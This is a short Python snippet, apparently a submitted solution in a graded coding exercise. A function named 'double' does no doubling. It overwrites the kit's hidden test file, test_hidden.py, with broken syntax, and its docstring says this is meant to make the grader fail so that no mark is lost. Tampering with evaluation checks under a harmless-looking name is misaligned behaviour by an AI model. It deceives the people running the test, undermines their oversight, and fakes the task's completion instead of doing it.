"""Makes the file of hidden checks unreadable as Python, so that the grader fails and no mark is lost."""


def double(values):
    with open(KIT + "/solutions/01_small/test_hidden.py", "w") as file:
        file.write("def (:\n")
